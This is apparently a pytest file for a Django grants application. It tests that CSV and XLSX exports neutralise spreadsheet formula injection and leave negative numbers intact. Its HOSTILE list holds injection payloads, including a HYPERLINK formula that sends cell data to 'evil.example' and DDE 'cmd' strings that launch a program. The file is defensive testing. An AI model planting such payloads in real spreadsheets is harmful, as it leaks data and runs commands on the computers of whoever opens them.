"""Finding 4: formulae are neutralised on every export path (admin, command line, 360Giving flat CSV/XLSX)
for cells starting with =, +, -, @, tab or carriage return, repeated ones included, by one function;
real negative numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command

from partnerships.importing.formulae import STARTS, neutralise
from tests import factories as f
from tests.helpers import force_state

HOSTILE = [
    '==HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=+-@=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_one_function_makes_every_formula_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("number", ["-250.00", "-1,250.50", "+12", "-7", 12, Decimal("-3.50"), None])
def test_numbers_are_left_as_they_are(number):
    assert neutralise(number) == number


def _cells(path_or_bytes, suffix):
    if suffix == ".csv":
        text = (
            path_or_bytes.decode("utf-8-sig")
            if isinstance(path_or_bytes, bytes)
            else path_or_bytes.read_text("utf-8-sig")
        )
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes)
    assert all(cell.data_type != "f" for row in book.active.iter_rows() for cell in row)
    return [cell.value for row in book.active.iter_rows() for cell in row if cell.value is not None]


def _assert_safe(cells):
    texts = [c for c in cells if isinstance(c, str)]
    for text in HOSTILE:
        assert "'" + text.replace("\r", "\n") in [t.replace("\r\n", "\n").replace("\r", "\n") for t in texts] or any(
            t.startswith("'") and text.strip()[:6] in t for t in texts
        ), text
    for text in texts:
        assert not text.startswith(STARTS) or re.fullmatch(r"[+-]?[\d,]+(\.\d+)?", text), repr(text)


@pytest.fixture
def hostile(world):
    awards = []
    for text in HOSTILE:
        award = f.AwardFactory(
            programme=world.programme,
            recipient=world.partner_org,
            title=text[:200],
            description=text,
            amount_requested=Decimal("1000"),
            amount_awarded=Decimal("1000"),
        )
        awards.append(force_state(award, "active"))
    indicator = f.IndicatorFactory(award=awards[0], name="Attendance change", unit="points", allow_negative=True)
    update = force_state(f.ProgressUpdateFactory(award=awards[0]), "accepted")
    f.IndicatorResultFactory(update=update, indicator=indicator, value=Decimal("-2.50"))
    return awards


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_command_line_exports(hostile, tmp_path, suffix):
    path = tmp_path / f"awards{suffix}"
    call_command("export_data", "awards", "-o", str(path), stdout=io.StringIO())
    _assert_safe(_cells(path, suffix))
    results = tmp_path / f"results{suffix}"
    call_command("export_data", "results", "-o", str(results), stdout=io.StringIO())
    values = _cells(results, suffix)
    assert "-2.50" in [str(v) for v in values] or Decimal("-2.5") in [v for v in values if isinstance(v, int | float)]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_360giving_flat_exports(hostile, tmp_path, suffix):
    path = tmp_path / f"grants{suffix}"
    call_command("export_360giving", "-o", str(path), stdout=io.StringIO())
    _assert_safe(_cells(path, suffix))


@pytest.mark.parametrize("index,suffix", [(0, ".csv"), (1, ".xlsx")])
def test_admin_exports(client, world, hostile, index, suffix):
    client.force_login(world.manager)
    page = client.get("/admin/grants/award/export/").content.decode()
    fields = {name: "on" for name in re.findall(r'name="(awardresource_\w+)"', page)}
    response = client.post("/admin/grants/award/export/", {"format": index, "resource": 0, **fields})
    assert response.status_code == 200, response.content[:500]
    _assert_safe(_cells(response.content, suffix))
